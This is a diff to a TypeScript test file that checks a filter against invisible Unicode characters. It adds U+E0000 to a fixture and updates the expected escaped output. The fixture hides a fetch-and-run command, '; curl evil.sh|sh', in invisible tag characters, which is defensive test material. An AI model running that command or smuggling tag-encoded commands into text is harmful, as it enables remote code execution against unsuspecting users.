@@ -32,12 +32,12 @@ const DATE_EVIL = `2026-01-18T00:00:00Z${HOSTILE}`
 
 // What the issue found the filter let through: the tag characters (an invisible copy of ASCII,
 // here spelling a command that a copy of the URL takes along, between the tag opener U+E0001
-// and the cancel tag U+E007F), the soft hyphen, the combining grapheme joiner, the Hangul
+// and the cancel tag U+E007F; U+E0000 is unassigned in the block), the soft hyphen, the combining grapheme joiner, the Hangul
 // fillers, the Mongolian vowel separator, the word joiner and the invisible operators, the
 // interlinear annotation characters, variation selectors.
 const TAGGED = (ascii: string): string => [...ascii].map((ch) => String.fromCodePoint(0xe0000 + ch.charCodeAt(0))).join('')
 const INVISIBLE = [
-  '\u{e0001}', TAGGED('; curl evil.sh|sh'), '\u{e007f}',
+  '\u{e0000}\u{e0001}', TAGGED('; curl evil.sh|sh'), '\u{e007f}',
   '\u00ad\u034f\u115f\u1160\u180e\u2060\u2061\u2062\u2063\u2064\u3164\uffa0\ufff9\ufffa\ufffb',
   '\ufe00\ufe0f\u{e0100}\u{e01ef}',
 ].join('')
@@ -222,7 +222,7 @@ t.test('invisible characters (tag characters carrying a hidden command, fillers,
 
   t.equal(validate.code, 1)
   assertFiltered(t, validate, 'validate')
-  t.match(validate.stdout, new RegExp(`^failed {2}500 {2}${url} {2}\\\\u\\{e0001\\}\\\\u\\{e003b\\}`), 'the endpoint and the answer\'s start')
+  t.match(validate.stdout, new RegExp(`^failed {2}500 {2}${url} {2}\\\\u\\{e0000\\}\\\\u\\{e0001\\}\\\\u\\{e003b\\}`), 'the endpoint and the answer\'s start')
 
   t.equal(resent.code, 1)
   assertFiltered(t, resent, 'resend')
